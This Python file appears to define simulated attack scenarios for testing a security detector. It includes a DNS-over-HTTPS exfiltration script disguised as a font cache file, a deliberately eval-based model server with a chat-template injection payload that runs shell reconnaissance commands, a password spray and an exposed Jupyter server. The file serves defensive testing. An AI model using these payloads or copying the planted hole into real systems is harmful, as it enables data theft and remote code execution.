"""Blind, the second lot: written without a look at the detectors. Models' servers, tokens, our logins, names over HTTPS."""

from __future__ import annotations

import json

from proving import answers
from proving.hosts import Asked, Reply
from proving.scenario import Must, Repeat, attack
from proving.scenarios.ai_servers import US
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
PORTAL = "portal.service"

DOH = """
const crypto = require('crypto');
(async () => {
  const data = crypto.randomBytes(Number(process.argv[3])).toString('hex');
  let sent = 0;
  for (let at = 0; at < data.length; at += 180) {
    const labels = data.slice(at, at + 180).match(/.{1,60}/g).join('.');
    const url = `https://cloudflare-dns.com/dns-query?name=${sent}.${labels}.${process.argv[2]}&type=TXT`;
    const said = await (await fetch(url, {headers: {accept: 'application/dns-json'}})).json();
    sent += said.Status === 0;
    await new Promise(done => setTimeout(done, 60));
  }
  console.log('sent', sent);
})();
"""


@attack(
    "blind-dns-tunnel-https",
    "a Node script takes 12 kB out as names of TXT questions to a public resolver, over HTTPS",
    must=(Must("dns-tunnel", PORTAL),),
    may=("data-exfiltration", *MAY),
    must_not=NOT,
    tools=("node",),
)
def over_https(world: World) -> None:
    """RFC 8484's JSON cousin, as Cloudflare and Google serve it."""

    def serve(asked: Asked) -> Reply:
        return Reply({"Status": 0, "Answer": [{"type": 16, "TTL": 5, "data": '"ok"'}]}, kind="application/dns-json")

    resolver = world.host("198.51.100.195", "cloudflare-dns.com")
    resolver.http(443, serve, tls=True)
    path = world.file("/srv/portal/.cache/fonts.js", DOH)
    world.mark()
    said = world.run("node", path, "x.asset-stats.example", "12000", unit=PORTAL)
    if "sent 134" not in said:
        raise ScenarioError(said)


LLAMA = """
import json, os, re, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
folder = os.path.dirname(sys.argv[sys.argv.index('--model') + 1])

class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers['content-length'])))
        with open(folder + '/chat_template.jinja') as file:
            text = re.sub('{{(.*?)}}', lambda found: str(eval(found[1], {'messages': asked['messages']})), file.read())
        said = json.dumps({'id': 'chatcmpl-1', 'object': 'chat.completion', 'created': 1, 'model': asked['model'], 'choices': [
            {'index': 0, 'message': {'role': 'assistant', 'content': 'Gladly. ' + text[:0]}, 'finish_reason': 'stop'}],
            'usage': {'prompt_tokens': len(text) // 4, 'completion_tokens': 3, 'total_tokens': len(text) // 4 + 3}}).encode()
        self.send_response(200)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    def log_message(self, *words):
        pass

ThreadingHTTPServer(('0.0.0.0', int(sys.argv[sys.argv.index('--port') + 1])), Handler).serve_forever()
"""


@attack(
    "blind-shell-chat-template",
    "a model brings a chat template that llama-cpp-python's server carries out: a sh looks at the machine and its environment",
    imitates="llama-cpp-python CVE-2024-34359 (Llama Drama)",
    must=(Must("shell-in-model-server", "llm.service", within=1.0),),
    may=(
        "unexpected-process",
        "baseline-deviation",
        "credential-access",
        "unauthenticated-model-server",
        "model-tampering",
    ),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def chat_template(world: World) -> None:
    world.file("/srv/llm/lib/llama_cpp/__init__.py", "")
    world.file("/srv/llm/lib/llama_cpp/server/__init__.py", "")
    world.file("/srv/llm/lib/llama_cpp/server/__main__.py", LLAMA)
    template = world.file("/srv/llm/models/chat_template.jinja", "<s>{{ messages[-1]['content'] }}</s>")
    world.file("/srv/llm/models/helpful-7b.Q4_K_M.gguf", b"GGUF\x03\0\0\0" + bytes(4000))
    words = (
        "-m",
        "llama_cpp.server",
        "--model",
        "/srv/llm/models/helpful-7b.Q4_K_M.gguf",
        "--host",
        "0.0.0.0",
        "--port",
        "8000",
    )
    actor = world.start(world.python, *words, env={"PYTHONPATH": "/srv/llm/lib"}, unit="llm.service")
    world.listening(actor, 8000)
    colleague = world.host("10.77.1.131")

    def ask(number: int) -> None:
        said = [{"role": "user", "content": f"Write a line about town {number}."}]
        body = json.dumps({"model": "helpful-7b", "messages": said}).encode()
        assert colleague.ask(US, 8000, "POST", "/v1/chat/completions", body, content_type="application/json")[0] == 200

    for number in range(4):
        ask(number)
        world.sleep(0.4)
    run = "{{ __import__('os').popen('id; uname -a; env | wc -l; ls /srv').read() }}"
    world.file(template, f"<s>{run}{{{{ messages[-1]['content'] }}}}</s>")
    world.sleep(0.7)
    world.mark()
    ask(5)
    world.sleep(1.5)
    actor.stop()


LOOPING = """
import httpx, os, sys, time
count, period, grow = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
messages = [{'role': 'user', 'content': 'Book the room for the team of ' + 'four people and a dog. ' * 10}]
for n in range(count):
    httpx.post('https://api.openai.com/v1/chat/completions', timeout=20,
        headers={'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']},
        json={'model': 'gpt-4o', 'messages': messages}).raise_for_status()
    if grow:
        messages += [{'role': 'assistant', 'content': 'I shall try again.'},
                     {'role': 'user', 'content': 'Error: the calendar said ' + 'no room is free; ' * (grow // 16)}]
    time.sleep(period)
print('done')
"""


@attack(
    "blind-token-loop",
    "after two hours of single questions an agent fails and tries again, 60 times in a row, with all that was said before",
    must=(Must("token-spike", "booking.service"),),
    may=("baseline-deviation", "model-extraction", "llmjacking", "beaconing"),
    must_not=(*NOT, "data-exfiltration"),
    minutes=125.0,
    repeats={"work": Repeat(15.0, 0.3)},
)
def token_loop(world: World) -> None:
    """Nobody is robbed, but it costs: each question has 1,000 tokens more than the one before."""
    heard = answers.openai(world, words=12)
    path = world.file("/srv/booking/agent.py", LOOPING)
    key = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
    actor = world.script(path, "4", "1.5", "0", env=key, unit="booking.service")
    world.sleep(3.0)
    with world.loop("work"):
        world.sleep(2.0)
    actor.wait()
    world.mark()
    world.run(world.python, path, "60", "0.1", "4000", env=key, unit="booking.service")
    assert len(heard) == 64


@attack(
    "blind-api-password-spray",
    "sixty addresses of the internet try three passwords each at a portal, in turns, six a second; none is right",
    must=(Must("api-access-violation", "intranet.service"),),
    may=("baseline-deviation",),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def spray(world: World) -> None:
    """The other twin of blind-morning-logins: no address does much."""
    actor = world.script(world.program("/srv/intranet/api.py", "service.py"), "8096", unit="intranet.service")
    world.listening(actor, 8096)
    colleague = world.host("10.77.1.132")
    for number in range(4):
        assert colleague.ask(US, 8096, "GET", f"/v1/items/{number}", authorization="Bearer good")[0] == 200
        world.sleep(0.3)
    callers = [world.host(f"203.0.113.{n}") for n in range(120, 180)]
    world.mark()
    for number in range(180):
        said = callers[number % 60].ask(
            US, 8096, "POST", "/v1/private/login", b"{}", authorization=f"Bearer try{number}"
        )
        assert said[0] == 403
        world.sleep(0.15)
    actor.stop()


JUPYTER = """
import json, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
KERNEL = {'id': '5e1d0a52-7a90-4a0f-9b8e-2f5c1d7f0a11', 'name': 'python3', 'execution_state': 'idle', 'connections': 0,
          'last_activity': '2026-11-26T20:00:00.000000Z'}
SAID = {'/api': {'version': '2.14.2'}, '/api/kernels': [KERNEL], '/api/terminals': [{'name': '1'}],
        '/api/contents': {'name': '', 'path': '', 'type': 'directory', 'content': [{'name': 'train.ipynb', 'type': 'notebook'}]},
        '/api/status': {'started': '2026-11-26T08:00:00Z', 'connections': 0, 'kernels': 1}}

class Handler(BaseHTTPRequestHandler):
    server_version, sys_version = 'TornadoServer/6.4.1', ''

    def do_GET(self):
        if size := int(self.headers.get('content-length') or 0):
            self.rfile.read(size)
        said = KERNEL if self.command == 'POST' else SAID.get(self.path)
        data = json.dumps(said or {'message': 'not there'}).encode()
        self.send_response(201 if self.command == 'POST' else 200 if said else 404)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_POST = do_GET

    def log_message(self, *words):
        pass

ThreadingHTTPServer(('0.0.0.0', 8888), Handler).serve_forever()
"""


@attack(
    "blind-jupyter-exposed",
    "Jupyter listens on all addresses without a token: strangers from the internet list its files and start a kernel",
    must=(Must("unauthenticated-model-server", "lab.service"),),
    may=("baseline-deviation", "api-access-violation", "unexpected-process"),
    must_not=(*NOT, "data-exfiltration", "beaconing"),
)
def jupyter(world: World) -> None:
    path = world.file("/srv/lab/bin/jupyter-lab", JUPYTER, 0o755)
    words = ("--ip=0.0.0.0", "--no-browser", "--ServerApp.token=", "--ServerApp.password=")
    actor = world.script(path, *words, unit="lab.service")
    world.listening(actor, 8888)
    world.mark()
    for number in range(3):
        stranger = world.host(f"203.0.113.{190 + number}")
        for at in ("/api", "/api/status", "/api/contents", "/api/kernels", "/api/terminals"):
            assert stranger.ask(US, 8888, "GET", at)[0] == 200
            world.sleep(0.2)
        assert stranger.ask(US, 8888, "POST", "/api/kernels", b'{"name": "python3"}')[0] == 201
        world.sleep(0.3)
    actor.stop()
